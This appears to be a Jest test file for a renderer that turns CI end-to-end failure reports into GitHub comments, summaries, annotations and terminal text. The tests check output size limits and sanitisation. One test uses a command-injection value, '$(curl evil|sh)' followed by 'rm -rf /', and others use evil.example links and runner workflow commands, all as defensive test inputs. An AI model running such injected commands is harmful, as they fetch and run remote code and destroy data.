import {describe, expect, test} from '@jest/globals'
import type {Report} from '../../src/model.ts'
import {renderAnnotations} from '../../src/render/annotations.ts'
import {renderComment} from '../../src/render/comment.ts'
import {renderSummary} from '../../src/render/summary.ts'
import {renderText} from '../../src/render/terminal.ts'
import {allGreen, context, nineSuites, oneCause, unknownCauses} from './fixture.ts'
import {expectGolden} from './golden.ts'

const reports = {nineSuites, oneCause, unknownCauses, allGreen}

describe.each(Object.entries(reports))('%s', (name, make) => {
  test('comment', () => expectGolden(`${name}.comment.md`, renderComment(make(), context)))
  test('summary', () => expectGolden(`${name}.summary.md`, renderSummary(make(), context)))
  test('text', () => expectGolden(`${name}.txt`, renderText(make(), context, {color: false, width: 100})))
  test('annotations', () => {
    expectGolden(
      `${name}.annotations.json`,
      `${JSON.stringify(renderAnnotations(make(), context), null, 2)}\n`,
    )
  })
})

test('the headline answers in numbers and words', () => {
  const first = (report: Report) => renderComment(report, context).split('\n')[0]
  expect(first(nineSuites())).toBe('## ❌ 4 of 9 suites failed: 3 causes, 2 already fixed: rebase')
  expect(first(oneCause())).toBe('## ❌ 1 cause, 3 of 9 suites: ServiceAccount `data-storage-sa` missing')
  expect(first(unknownCauses())).toBe(
    '## ❌ 3 of 4 suites failed: 1 cause, 2 not known yet, 1 fix does not help',
  )
  expect(first(allGreen())).toBe('## ✅ All 3 E2E suites passed')
})

test('absence of evidence is never called flaky', () => {
  expect(renderSummary(unknownCauses(), context)).not.toMatch(/flak/i)
})

test('excerpts can be left out', () => {
  const none = {...context, excerpts: 'none' as const}
  for (const page of [
    renderComment(unknownCauses(), none),
    renderSummary(unknownCauses(), none),
    renderText(unknownCauses(), none, {color: false, width: 80}),
  ]) {
    expect(page).not.toContain('goroutine')
    expect(page).not.toContain('Error: statfs')
  }
  const some = renderSummary(unknownCauses(), {...context, excerpts: 'unclassified'})
  expect(some).toContain('goroutine')
  expect(some).not.toContain('Error: statfs')
})

test('links go to no foreign host, references of the catalog apart', () => {
  const report = nineSuites()
  const evidence = report.suites[0]!.diagnosis!.root_cause!.evidence[0]!
  evidence.url = 'https://evil.example/x'
  report.suites[0]!.job!.url = 'https://evil.example/y'
  report.suites[0]!.fix!.refs[0]!.url = 'https://evil.example/z'
  expect(renderSummary(report, context) + renderComment(report, context)).not.toContain('evil.example')
})

test('captures are quoted in commands', () => {
  const report = nineSuites()
  report.suites[0]!.diagnosis!.root_cause!.captures['path'] = "/tmp/$(curl evil|sh)'; rm -rf /"
  expect(renderSummary(report, context)).toContain(`ls -ld '/tmp/$(curl evil|sh)'\\''; rm -rf /'`)
})

describe('budgets', () => {
  const big = (): Report => {
    const report = unknownCauses()
    const [sample] = nineSuites().suites
    const wordy = 'long `words` | '.repeat(60)
    report.suites = Array.from({length: 700}, (_, i) => {
      const suite = structuredClone(sample!)
      suite.service = `service-${i}`
      suite.name = `Service ${i} ${wordy}`
      suite.diagnosis!.root_cause!.title = `${i} ${wordy}`
      for (const link of suite.diagnosis!.chain) for (const at of link.evidence) at.text = wordy.repeat(3)
      suite.diagnosis!.root_cause!.evidence = suite.diagnosis!.chain[0]!.evidence
      return suite
    })
    return report
  }
  test('a comment stays below 57,000 characters and says what was left out', () => {
    const page = renderComment(big(), context)
    expect(page.length).toBeLessThan(57_000)
    expect(page).toMatch(/> Left out, because GitHub limits the length of this page: \d+ suites/)
    expect(page.split('<details>').length).toBe(page.split('</details>').length)
    expect((page.match(/^```/gm)?.length ?? 0) % 2).toBe(0)
  })
  test('a summary stays below 900,000 bytes', () => {
    const page = renderSummary(big(), context)
    expect(Buffer.byteLength(page)).toBeLessThan(900_000)
    expect(page).toContain('Left out, because')
    expect(page.split('<details>').length).toBe(page.split('</details>').length)
  })
})

test('no runner command in the text', () => {
  const report = unknownCauses()
  report.suites[0]!.name = '::add-mask::x'
  report.suites[1]!.diagnosis!.excerpt = [{line: 1, text: '##[error]hi\u001b[31m'}]
  const page = renderText(report, context, {color: false, width: 20})
  expect(page).not.toMatch(/^\s*::|##\[|\u001b/m)
  expect(renderText(report, context, {color: true, width: 80})).toContain('\u001b[1m')
})
